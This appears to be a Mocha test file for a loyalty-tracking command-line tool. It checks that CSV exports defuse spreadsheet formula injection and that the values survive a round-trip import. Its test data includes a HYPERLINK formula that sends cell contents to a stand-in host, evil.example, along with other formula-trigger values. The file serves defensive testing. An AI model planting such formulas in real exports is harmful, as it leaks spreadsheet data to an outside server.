// The `loyal` command line under attack, as a user's shell runs it: the CLI bundled like
// dist/cli.js and spawned as a real process on real files. Hostile text in exports, broken
// and strange data files, several writers at once. The slow cases (50 MB books, SIGKILL
// during saves, a full disk) are in scripts/attack.mjs.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { build } from 'esbuild';
import type { LoyalFile } from '../../src/domain/records';

const ROOT = join(__dirname, '..', '..');
let folder: string;
let cli: string;

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
}

function loyal(args: string[], env: NodeJS.ProcessEnv = { LOYAL_USER: 'Tester' }): Run {
  const result = spawnSync(process.execPath, [cli, ...args], { cwd: folder, encoding: 'utf8', env: { PATH: process.env.PATH, TZ: 'Europe/Rome', ...env }, timeout: 60_000 });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

async function book(file = 'loyal.json'): Promise<LoyalFile> {
  return JSON.parse(await readFile(join(folder, file), 'utf8')) as LoyalFile;
}

describe('loyal (command line) under attack', function () {
  this.timeout(180_000);

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'loyal-cli-attack-'));
    cli = join(folder, 'cli.js');
    await build({ bundle: true, platform: 'node', format: 'cjs', target: 'node18', logLevel: 'warning', entryPoints: [join(ROOT, 'src/cli/main.ts')], outfile: cli, banner: { js: '#!/usr/bin/env node' } });
  });
  after(async () => {
    await rm(folder, { recursive: true, force: true });
  });
  beforeEach(async () => {
    await rm(join(folder, 'loyal.json'), { force: true });
    await rm(join(folder, '.loyal'), { recursive: true, force: true });
  });

  describe('CSV exports', () => {
    it('neutralises a customer named like a formula, and imports it back unchanged', async () => {
      assert.equal(loyal(['init']).status, 0);
      const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      assert.equal(loyal(['add', 'customer', '--name', evil, '--external-id', 'E1', '--company', '@SUM(A1:A9)', '--tag', '+vip']).status, 0);
      assert.equal(loyal(['add', 'purchase', '--customer', 'E1', '--amount=-12.50', '--date', '2026-01-05', '--note=-1+2']).status, 0);
      const customers = loyal(['export', 'customers']);
      assert.equal(customers.status, 0, customers.stderr);
      const [row] = parse(customers.stdout, { columns: true }) as Array<Record<string, string>>;
      assert.deepEqual([row.name, row.company, row.tags], [`'${evil}`, "'@SUM(A1:A9)", "'+vip"]);
      const [purchase] = parse(loyal(['export', 'purchases']).stdout, { columns: true }) as Array<Record<string, string>>;
      assert.deepEqual([purchase.amount, purchase.note], ['-12.50', "'-1+2"], 'a refund stays a number, a sum does not run');
      // --json is data for scripts, not for a spreadsheet: as written.
      assert.equal(JSON.parse(loyal(['export', 'customers', '--json']).stdout)[0].name, evil);

      // Into a new book, back out of it: the same text.
      await writeFile(join(folder, 'c.csv'), customers.stdout);
      await writeFile(join(folder, 'p.csv'), loyal(['export', 'purchases']).stdout);
      assert.equal(loyal(['init', '--file', 'other.json']).status, 0);
      assert.equal(loyal(['import', 'customers', 'c.csv', '--file', 'other.json']).status, 0);
      assert.equal(loyal(['import', 'purchases', 'p.csv', '--file', 'other.json']).status, 0);
      const other = await book('other.json');
      assert.deepEqual([other.customers[0].name, other.customers[0].company, other.customers[0].tags], [evil, '@SUM(A1:A9)', ['+vip']]);
      assert.deepEqual([other.purchases[0].amount, other.purchases[0].note], ['-12.50', '-1+2']);
    });
  });
});
